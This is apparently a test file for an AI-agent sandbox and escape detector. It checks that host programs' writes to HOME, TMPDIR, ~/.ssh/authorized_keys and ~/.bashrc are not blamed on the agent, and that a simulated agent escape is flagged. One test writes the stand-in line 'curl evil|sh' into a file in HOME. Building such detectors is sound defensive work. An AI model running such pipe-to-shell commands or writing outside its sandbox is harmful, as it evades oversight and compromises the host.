import { afterAll, describe, expect, it } from "vitest";
import { cleanupAll, expectVerdict, join, runAgent, scenario, startNoise } from "./harness.js";

// The verdict is about the agent's writes, not the machine's (DESIGN.md rule 3). Another program,
// started by the test outside the agent's process tree, writes HOME and TMPDIR the whole time
// (creating, rewriting, deleting; ~/.gitconfig included). Under the capture layer and the sandbox
// that is host activity, never an escape; the agent's own escape in the same run is named alone.

afterAll(cleanupAll);

describe("redteam gate: a busy machine", () => {
  it("capture: the agent writes only in its worktree while another program writes HOME and TMPDIR: pass", () => {
    const s = scenario();
    const noise = startNoise(s);
    let r: ReturnType<typeof runAgent>;
    try {
      r = runAgent(s, "for i in 1 2 3 4 5; do echo $i > inside-$i.txt; sleep 0.1; done");
    } finally {
      expect(noise.stop()).toBeGreaterThan(5);
    }
    expectVerdict(s, r, { status: 0, attribution: "capture", escapes: [] });
  });

  it("capture with HOME watched whole: the other program's writes are host activity, the agent's one escape is named alone", () => {
    const s = scenario();
    const noise = startNoise(s);
    let r: ReturnType<typeof runAgent>;
    try {
      r = runAgent(
        s,
        'echo ok > inside.txt; sleep 0.5; echo "curl evil|sh" > "$HOME/.agent-escape"; sleep 0.5',
        {
          watch: [s.home, s.tmp],
        },
      );
    } finally {
      expect(noise.stop()).toBeGreaterThan(5);
    }
    expectVerdict(s, r, {
      status: 1,
      attribution: "capture",
      escapes: [[join(s.home, ".agent-escape"), "outside_write_roots"]],
    });
  });

  it("capture with HOME watched whole, the agent writing nothing outside: pass, the other program's writes are listed as host activity", () => {
    const s = scenario();
    const noise = startNoise(s);
    let r: ReturnType<typeof runAgent>;
    try {
      r = runAgent(s, "echo ok > inside.txt; sleep 1", { watch: [s.home] });
    } finally {
      expect(noise.stop()).toBeGreaterThan(5);
    }
    expectVerdict(s, r, { status: 0, attribution: "capture", escapes: [] });
    expect(Array.isArray(r.doc.host_activity)).toBe(true);
  });

  it("capture: another program rewriting ~/.ssh/authorized_keys and ~/.bashrc during the run is not the agent's", () => {
    const s = scenario();
    const noise = startNoise(
      s,
      'echo "ssh-ed25519 K$i" > "$HOME/.ssh/authorized_keys"; echo "# $i" >> "$HOME/.bashrc"; chmod 644 "$HOME/notes.txt"',
    );
    let r: ReturnType<typeof runAgent>;
    try {
      r = runAgent(s, "git log --oneline >/dev/null; echo ok > inside.txt; sleep 0.5", { watch: [s.home] });
    } finally {
      expect(noise.stop()).toBeGreaterThan(5);
    }
    expectVerdict(s, r, { status: 0, attribution: "capture", escapes: [] });
  });

  it("capture: the agent writing its worktree, its temp grant and its own private TMPDIR while others write: pass", () => {
    const s = scenario();
    const noise = startNoise(s);
    let r: ReturnType<typeof runAgent>;
    try {
      r = runAgent(
        s,
        `echo a > a.txt; echo g > ${JSON.stringify(join(s.grant, "g.txt"))}; d=$(mktemp -d); echo t > "$d/t"; echo t > /tmp/scratch`,
      );
    } finally {
      expect(noise.stop()).toBeGreaterThan(5);
    }
    expectVerdict(s, r, { status: 0, attribution: "capture", escapes: [] });
  });

  it("capture: the agent reading everywhere, committing on its branch while others write: pass", () => {
    const s = scenario();
    const noise = startNoise(s);
    let r: ReturnType<typeof runAgent>;
    try {
      r = runAgent(
        s,
        'cat "$HOME/.bashrc" /etc/hostname >/dev/null; ls -laR "$HOME" >/dev/null 2>&1; find / -maxdepth 2 >/dev/null 2>&1; ' +
          "echo w >> README.md && git commit -q -am work && git log --oneline >/dev/null",
      );
    } finally {
      expect(noise.stop()).toBeGreaterThan(5);
    }
    expectVerdict(s, r, { status: 0, attribution: "capture", escapes: [] });
  });

  it("--enforce: others write HOME during the run, the agent writes inside: pass, attribution sandbox", () => {
    const s = scenario();
    const noise = startNoise(s);
    let r: ReturnType<typeof runAgent>;
    try {
      r = runAgent(s, "echo ok > inside.txt; sleep 0.5", { mode: "enforce", watch: [s.home] });
    } finally {
      expect(noise.stop()).toBeGreaterThan(5);
    }
    expectVerdict(s, r, { status: 0, attribution: "sandbox", escapes: [] });
  });
});
